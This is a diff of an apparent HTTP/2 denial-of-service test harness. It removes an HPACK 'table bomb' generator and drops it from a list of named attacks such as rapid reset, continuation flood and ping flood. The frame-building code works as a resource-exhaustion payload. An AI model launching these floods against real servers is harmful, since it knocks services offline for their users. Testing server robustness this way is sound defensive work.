@@ -89,13 +89,6 @@ def ping_flood():
         yield frame(PING, 0, 0, b"12345678") * 100
 
 
-def table_bomb():
-    """A field of the dynamic table, named a thousand times in a kilobyte (HPACK bomb)."""
-    stored = b"\x40\x01a\x7f\x81\x1e" + b"v" * 3968  # literal, added to the table
-    for stream in streams(200):
-        yield frame(HEADERS, END_HEADERS, stream, headers() + (stored if stream == 1 else b"") + b"\xbe" * 1000)
-
-
 def many_unfinished():
     """More calls than may wait, each of which stays open."""
     for at in range(0, 5000, 100):
@@ -120,7 +113,7 @@ def a_message_of_4_gb():
 
 ATTACKS = [
     rapid_reset, reset_after_data, made_you_reset, continuation_flood, empty_continuations, empty_data, settings_flood,
-    ping_flood, table_bomb, many_unfinished, window_overflow, wrong_frames, huge_frame, a_message_of_4_gb,
+    ping_flood, many_unfinished, window_overflow, wrong_frames, huge_frame, a_message_of_4_gb,
 ]  # fmt: skip
 
 
